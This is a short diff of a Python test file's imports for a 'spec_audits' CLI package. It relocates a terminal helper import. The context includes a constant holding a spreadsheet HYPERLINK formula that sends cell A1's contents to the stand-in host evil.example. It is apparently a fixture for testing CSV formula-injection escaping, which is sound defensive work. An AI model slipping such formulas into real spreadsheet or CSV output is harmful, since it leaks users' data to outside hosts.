@@ -15,13 +15,13 @@ import pandas as pd
 import pytest
 from click.testing import CliRunner
 
+from spec_audits.base.terminal import visible
 from spec_audits.cli import main
 from spec_audits.contract.writer import suite_row
 from spec_audits.families.influence.score.synthetic import Design, write_run
 from spec_audits.families.influence.score.synthetic import write_suite as write_influence_suite
 from spec_audits.runner.files_out import csv_cell, read_csv, write_csv
 from spec_audits.runner.report.markdown import text
-from spec_audits.terminal import visible
 from tests.support import write_suite
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
